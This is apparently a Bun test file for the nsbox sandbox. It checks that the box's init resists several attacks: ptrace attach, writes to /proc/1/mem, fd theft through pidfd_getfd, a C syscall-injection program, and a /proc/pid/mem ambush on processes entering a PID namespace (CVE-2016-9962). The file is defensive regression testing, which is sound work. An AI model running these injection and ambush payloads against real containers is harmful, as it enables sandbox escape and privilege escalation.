// Using the processes of nsbox's own that stand in a box's namespaces: lines 37 and 38 of docs/security.md.
import { expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { basename } from "node:path";
import { type Attack, testAttacks } from "#test/support/attack.ts";
import { inBox } from "#test/support/box.ts";
import { describeWith, testWith } from "#test/support/needs.ts";
import { compileC, NSBOX, nsbox, runCommand, waitFor } from "#test/support/nsbox.ts";

const TRACE = `import ctypes; libc = ctypes.CDLL(None); libc.ptrace(0x4206, 1, 0, 0) == 0 and print('PWNED')`;
const WRITE = `import os; fd = os.open('/proc/1/mem', os.O_RDWR); os.pwrite(fd, os.pread(fd, 8, 0x600000), 0x600000); print('PWNED')`;
const GETFD = `import ctypes, os; fd = os.pidfd_open(1); e = ctypes.CDLL(None, use_errno=True); e.syscall(438, fd, 0, 0); ctypes.get_errno() == 9 and print('PWNED')`;

const tracing = (name: string, code: string): Attack => ({
  line: 37,
  name,
  script: `python3 -c "${code}"`,
  control: { flags: ["--cap-add", "sys_ptrace"] },
  needs: ["python3"],
});

testAttacks("init", [
  tracing("tracing the init, which has no filter", TRACE),
  tracing("writing to the init's memory", WRITE),
  tracing("taking the init's open files", GETFD),
]);

/** Has the init of the box, traced, make a call: it has got through when a user namespace is made. */
const INJECT = `#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
  static unsigned char code[4096];
  struct user_regs_struct regs;
  long at = 0;
  usleep(100000); // the init filters itself once the command runs
  if (ptrace(PTRACE_ATTACH, 1, 0, 0) != 0) { perror("attach"); return 1; }
  waitpid(1, 0, __WALL);
  int mem = open("/proc/1/mem", O_RDONLY);
  pread(mem, code, sizeof code, 0x400000);
  while (at < 4094 && memcmp(code + at, "\\x0f\\x05", 2) != 0) at++;
  ptrace(PTRACE_GETREGS, 1, 0, &regs);
  regs.orig_rax = -1;
  regs.rax = SYS_unshare;
  regs.rdi = CLONE_NEWUSER;
  regs.rip = 0x400000 + at;
  ptrace(PTRACE_SETREGS, 1, 0, &regs);
  ptrace(PTRACE_SINGLESTEP, 1, 0, 0);
  waitpid(1, 0, __WALL);
  ptrace(PTRACE_GETREGS, 1, 0, &regs);
  printf("%s %ld\\n", regs.rax == 0 ? "PWNED" : "refused", (long)regs.rax);
  return 0;
}`;

describeWith(["userns", "cc", "x64"], "init, 37: making the init call what the box may not", () => {
  test("is refused even for who may trace it", async () => {
    using program = compileC(INJECT, ["-Wno-unused-result"]);
    const run = (...flags: readonly string[]) =>
      nsbox(["run", "--cap-add", "sys_ptrace", "--timeout", "5s", "--ro", program.path, ...flags, "--", program.path]);
    expect((await run()).stdout).toBe("refused -1\n");
    expect((await run("--seccomp", "none")).stdout).toBe("PWNED 0\n");
  });

  test.each([[[]], [["-d"]], [["--user", "1000"]], [["--monotonic", "5"]]])(
    "it has a filter with %j",
    async (flags) => {
      // The init starts the command first.
      const found = "grep -q '^Seccomp:.2' /proc/1/status";
      const script = `n=0; until ${found} || [ $n -ge 400 ]; do n=$((n+1)); sleep 0.05; done; grep ^Seccomp: /proc/1/status`;
      if (!flags.includes("-d")) return expect((await inBox(flags, script)).stdout).toBe("Seccomp:\t2\n");
      const name = `guarded-${process.pid}`;
      await nsbox(["run", ...flags, "--name", name, "--", "sh", "-c", script]);
      await nsbox(["wait", name]);
      expect((await nsbox(["logs", name])).stdout).toBe("Seccomp:\t2\n");
      await nsbox(["rm", name]);
    },
  );
});

/** Waits for a process that it has not seen before, and takes it over: what is written is what was there. */
const AMBUSH = `
import os, time
seen = set(os.listdir('/proc'))
print('ready', flush=True)
end = time.monotonic() + 8
while time.monotonic() < end:
    for pid in set(p for p in os.listdir('/proc') if p.isdigit()) - seen:
        try:
            fd = os.open('/proc/%s/mem' % pid, os.O_RDWR)
            where = int(open('/proc/%s/maps' % pid).readline().split('-')[0], 16)
            os.pread(fd, 8, where)
            print('PWNED', open('/proc/%s/comm' % pid).read(), end='', flush=True)
            os._exit(0)
        except (OSError, ValueError):
            pass
`;

/** A container as runtimes without user namespaces make them: root with few capabilities, a PID namespace, a /proc. */
function container(script: string): readonly string[] {
  const few = "setpriv --bounding-set -all --inh-caps -all python3 -c";
  return ["unshare", "--pid", "--mount", "--fork", "--mount-proc", "sh", "-c", `exec ${few} "$1"`, "sh", script];
}

describeWith(
  ["root", "python3"],
  "init, 38: taking nsbox over when it enters a container's PID namespace (CVE-2016-9962)",
  () => {
    async function ambush(enter: (pid: number) => Promise<unknown>): Promise<string> {
      const child = Bun.spawn([...container(AMBUSH)], { stdout: "pipe", stderr: "inherit" });
      const reader = child.stdout.getReader();
      let text = "";
      const read = async (): Promise<string> => {
        while (!text.includes("\n")) text += new TextDecoder().decode((await reader.read()).value);
        const line = text.slice(0, text.indexOf("\n"));
        text = text.slice(line.length + 1);
        return line;
      };
      try {
        expect(await read()).toBe("ready");
        const inside = await waitFor(() => childOf(child.pid), "the container's process");
        for (let round = 0; round < 20; round++) await enter(inside);
        return await Promise.race([read(), Bun.sleep(200).then(() => "nothing")]);
      } finally {
        child.kill("SIGKILL");
        await child.exited;
      }
    }

    test("never gets at nsbox itself, whose memory the box has in common before it runs", async () => {
      const got = await ambush((pid) => runCommand([NSBOX, "run", "--pid", String(pid), "--", "true"]));
      // The kernel shows 15 characters of a name; the box's own init and command are another matter.
      expect(got).not.toBe(`PWNED ${basename(NSBOX).slice(0, 15)}`);
    });

    testWith(["lsns"], "gets at another process of root that enters: the ambush is a real one", async () => {
      expect(
        await ambush((pid) => runCommand(["nsenter", "-t", String(pid), "-p", "unshare", "-r", "sleep", "0.05"])),
      ).toContain("PWNED");
    });
  },
);

function childOf(pid: number): number | undefined {
  const text = readFileSync(`/proc/${pid}/task/${pid}/children`, "utf8").trim();
  return text === "" ? undefined : Number(text.split(" ")[0]);
}
